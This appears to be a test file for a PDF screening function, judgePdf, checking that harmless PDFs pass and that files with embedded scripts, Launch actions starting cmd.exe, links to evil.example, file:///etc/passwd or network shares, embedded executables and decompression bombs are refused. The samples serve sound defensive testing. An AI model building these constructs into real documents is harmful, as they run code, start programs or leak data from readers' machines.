import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import { describe, expect, it } from 'vitest';
import { type PdfParts, packed, pdfOf } from '../../testing/pdfs.ts';
import { judgePdf } from './judge-pdf.ts';

const latin = (text: string) => Buffer.from(text, 'latin1');
const WORDS = '/JS(app.alert(1)) /JavaScript /Launch /EmbeddedFile /RichMedia /XFA';
const catalog = (more: string) => ({ 1: `<</Type/Catalog/Pages 2 0 R${more}>>` });
const page = (more: string) => ({
  3: `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<>>${more}>>`,
});
const script = '<</S/JavaScript/JS(app.alert(1))>>';
const link = (action: string) => page(`/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A${action}>>]`);
const noise = (length: number) => {
  const bytes = Buffer.alloc(length);
  let state = 7;
  for (let at = 0; at < length; at += 1) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    bytes[at] = state >>> 16;
  }
  return bytes;
};

async function made(options: PDFKit.PDFDocumentOptions = {}): Promise<Buffer> {
  const document = new PDFDocument(options);
  const parts: Buffer[] = [];
  document.on('data', (part: Buffer) => parts.push(part));
  const ended = new Promise((resolve) => document.once('end', resolve));
  document.text(`Ground floor ${WORDS}`).link(0, 0, 99, 99, 'https://mill-lane.example/');
  document.end();
  await ended;
  return Buffer.concat(parts);
}

const revised = (file: Buffer, text: string) => Buffer.concat([file, latin(`${text}\n%%EOF\n`)]);

describe('a PDF', () => {
  it.each<[string, PdfParts]>([
    ['a page', {}],
    ['a text about scripts', { 4: ['', latin(`(HTML/JS ${WORDS}) Tj`)] }],
    ['a packed text about scripts', { 4: ['/Filter/FlateDecode', deflateSync(latin(WORDS))] }],
    ['a picture whose data look like a script', { 5: ['/Type/XObject/Subtype/Image', latin(WORDS)] }],
    [
      'nine megabytes of a picture',
      { 5: ['/Subtype/Image', Buffer.concat([noise(9_000_000), latin(WORDS)])] },
    ],
    ['a title about scripts', { 5: `<</Title(${WORDS.replace('(app.alert(1))', '')})>>` }],
    ['a comment about scripts', { 5: `% ${WORDS}\n<<>>` }],
    [
      'resources with the names of actions',
      page('/Resources<</Font<</JS 5 0 R/Launch 5 0 R/EF 5 0 R/F 5 0 R>>>>'),
    ],
    ['layers', catalog('/OCProperties<</OCGs[]/D<<>>>>')],
    ['a link to a page', link('<</S/GoTo/D[3 0 R/Fit]>>')],
    ['a link to a site', link('<</S/URI/URI(https://mill-lane.example/plan)>>')],
    ['a link to an email', link('<</S/URI/URI(mailto:ada@mill-lane.example)>>')],
    ['a link to a phone', link('<</S/URI/URI(tel:+441473550180)>>')],
    ['a link without a scheme', link('<</S/URI/URI(www.mill-lane.example)>>')],
    ['a view to open with', catalog('/OpenAction[3 0 R/XYZ null null 1]')],
    ['a page to open with', catalog('/OpenAction<</S/GoTo/D[3 0 R/Fit]>>')],
    ['bookmarks', catalog('/Outlines<</First 5 0 R>>')],
    ['a form without a program', catalog('/AcroForm<</Fields[]>>')],
    ['an empty list of other files', catalog('/Names<</EmbeddedFiles<</Names[]>>/Dests<</Names[]>>>>')],
    [
      'a structure for screen readers',
      catalog('/StructTreeRoot<</Type/StructTreeRoot/K[<</S/Document/P 1 0 R>>]>>'),
    ],
    ['objects in a stream', { 5: packed({ 6: '<</Type/Font>>', 7: '[1 2 3]' }) }],
    [
      'XMP',
      catalog('/Metadata 5 0 R') && { 5: ['/Type/Metadata/Subtype/XML', latin(`<x:xmpmeta>${WORDS}`)] },
    ],
  ])('is accepted with %s', async (_, parts) => {
    expect(await judgePdf(pdfOf(parts))).toBe('pages');
  });

  it('is accepted as written by drawing programs, even after a byte order mark and with revisions', async () => {
    const file = await made();
    expect(await judgePdf(file)).toBe('pages');
    expect(await judgePdf(Buffer.concat([latin('\xef\xbb\xbf'), file]))).toBe('pages');
    expect(await judgePdf(revised(pdfOf(), '5 0 obj\n<</Title(B)>>\nendobj'))).toBe('pages');
  });

  it.each<[string, PdfParts]>([
    ['a script to open with', catalog(`/OpenAction${script}`)],
    ['a script whose name is spelt in numbers', catalog('/OpenAction<</S/J#61vaScript/J#53(x)>>')],
    ['every letter of a script spelt in numbers', link('<</S/#4a#61#76#61#53#63#72#69#70#74/JS(x)>>')],
    ['a script as an object of its own', { ...catalog('/OpenAction 5 0 R'), 5: script }],
    ['a script in an object stream', { ...catalog('/OpenAction 6 0 R'), 5: packed({ 6: script }) }],
    ['a script in a stream', { 5: ['', latin('app.alert(1)')], 6: '<</S/JavaScript/JS 5 0 R>>' }],
    ['a script behind a click', link(script)],
    ['a script behind the next step', link(`<</S/GoTo/D[3 0 R/Fit]/Next[${script}]>>`)],
    ['a script when a page opens', page(`/AA<</O${script}>>`)],
    ['a script of a field', { 5: `<</FT/Tx/AA<</K${script}>>>>` }],
    ['a script of a bookmark', { 5: `<</Title(A)/A${script}>>` }],
    ['a script deep within', { 5: `${'[<</K'.repeat(40)}${script}${'>>]'.repeat(40)}` }],
    ['a list of scripts', catalog('/Names<</JavaScript<</Names[(a) 5 0 R]>>>>')],
    [
      'a list of scripts as an object',
      { ...catalog('/Names 5 0 R'), 5: '<</JavaScript 6 0 R>>', 6: '<</Kids[7 0 R]>>' },
    ],
    ['an address to open with', catalog('/OpenAction<</S/URI/URI(https://evil.example/)>>')],
    ['an address when the file closes', catalog('/AA<</WC<</S/URI/URI(https://evil.example/)>>>>')],
    ['an address when a page opens', page('/AA<</O<</S/URI/URI(https://evil.example/)>>>>')],
    ['a print as it opens', catalog('/OpenAction<</S/Named/N/Print>>')],
    ['a link with a script as its address', link('<</S/URI/URI(javascript:alert\\(1\\))>>')],
    ['a link to a file', link('<</S/URI/URI(file:///etc/passwd)>>')],
    ['a link to a share', link('<</S/URI/URI(\\\\\\\\evil.example\\\\share)>>')],
    [
      'a link with its address in hexadecimal',
      link(`<</S/URI/URI<${latin('file:///c:/x.exe').toString('hex')}>>>`),
    ],
    ['a form that is sent', link('<</S/SubmitForm/F(https://evil.example/)>>')],
    ['data that are fetched', link('<</S/ImportData/F(x.fdf)>>')],
    ['a program to start', link('<</S/Launch/F(calc.exe)>>')],
    ['a program to start as it opens', catalog('/OpenAction<</S/La#75nch/Win<</F(cmd.exe)>>>>')],
    ['another file to open', link('<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)/D[0/Fit]>>')],
    ['another file within to open', link('<</S/GoToE/T<</R/C>>>>')],
    ['a film to play', link('<</S/Rendition/OP 0>>')],
    [
      'another file',
      {
        ...catalog('/Names<</EmbeddedFiles<</Names[(a.exe) 6 0 R]>>>>'),
        5: ['/Type/EmbeddedFile', latin('MZ')],
        6: '<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>',
      },
    ],
    ['another file that calls itself nothing', { 5: ['', latin('MZ')], 6: '<</F(a.exe)/EF<</UF 5 0 R>>>>' }],
    [
      'another file in an object stream',
      { 5: ['', latin('MZ')], 6: packed({ 7: '<</F(a.exe)/E#46<</F 5 0 R>>>>' }) },
    ],
    [
      'an associated file',
      { ...catalog('/AF[6 0 R]'), 5: ['/Type/EmbeddedFile', latin('MZ')], 6: '<</EF<</F 5 0 R>>>>' },
    ],
    ['a file pinned to a page', page('/Annots[<</Subtype/FileAttachment/FS<</F(a.exe)>>>>]')],
    ['rich media', page('/Annots[<</Subtype/RichMedia>>]')],
    ['a film on a page', page('/Annots[<</Subtype/Movie/Movie<</F(a.mov)>>>>]')],
    ['a sound on a page', page('/Annots[<</Subtype/Sound>>]')],
    ['a screen on a page', page('/Annots[<</Subtype/Screen>>]')],
    ['a 3D model with a script', { 5: ['/Type/3D/OnInstantiate 6 0 R', latin('')], 6: ['', latin('x')] }],
    ['a form of XML', { ...catalog('/AcroForm<</XFA 5 0 R>>'), 5: ['', latin('<xdp/>')] }],
    ['a form of XML in parts', catalog('/AcroForm<</X#46A[(a) 5 0 R]>>')],
    ['data in another file', { 5: ['/F(\\\\\\\\evil.example\\\\a)', latin('')] }],
  ])('is refused with %s', async (_, parts) => {
    expect(await judgePdf(pdfOf(parts))).toBe('hidden');
  });

  it('is refused with a script in any of its revisions', async () => {
    const harmless = '1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj';
    expect(await judgePdf(revised(pdfOf(catalog(`/OpenAction${script}`)), harmless))).toBe('hidden');
    expect(await judgePdf(revised(pdfOf(), `5 0 obj\n${script}\nendobj`))).toBe('hidden');
  });

  it('is reported as locked when it has a password', async () => {
    expect(await judgePdf(await made({ userPassword: 'floor', pdfVersion: '1.7' }))).toBe('locked');
    expect(await judgePdf(await made({ ownerPassword: 'floor', pdfVersion: '1.4' }))).toBe('locked');
  });

  it.each([
    ['is nothing', Buffer.alloc(0)],
    ['is a header alone', latin('%PDF-1.7\n%%EOF')],
    ['has no catalogue', latin('%PDF-1.7\n1 0 obj<</Type/Font>>endobj\n%%EOF')],
    ['has half an object', latin('%PDF-1.7\n1 0 obj<</Type/Catalog/Pages [[ ( endobj\n%%EOF')],
    ['nests without end', pdfOf({ 5: '['.repeat(3_000_000) })],
    ['nests dictionaries without end', pdfOf({ 5: '<</K'.repeat(1_000_000) })],
    [
      'unpacks to a gigabyte of objects',
      pdfOf({
        5: ['/Type/ObjStm/N 1/First 4/Filter/FlateDecode', deflateSync(Buffer.alloc(1_000_000_000, 0x20))],
      }),
    ],
    [
      'unpacks twice',
      pdfOf({
        5: [
          '/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]',
          deflateSync(deflateSync(Buffer.alloc(90_000_000, 0x20))),
        ],
      }),
    ],
    [
      'counts more objects than it has',
      pdfOf({ 5: ['/Type/ObjStm/N 999999999/First 4', latin('6 0 null')] }),
    ],
    [
      'has a broken object stream',
      pdfOf({ 5: ['/Type/ObjStm/N 1/First 4/Filter/FlateDecode', latin('rubbish')] }),
    ],
  ])('can’t be read when it %s', async (_, file) => {
    expect(await judgePdf(file)).toBe('broken');
  });
});
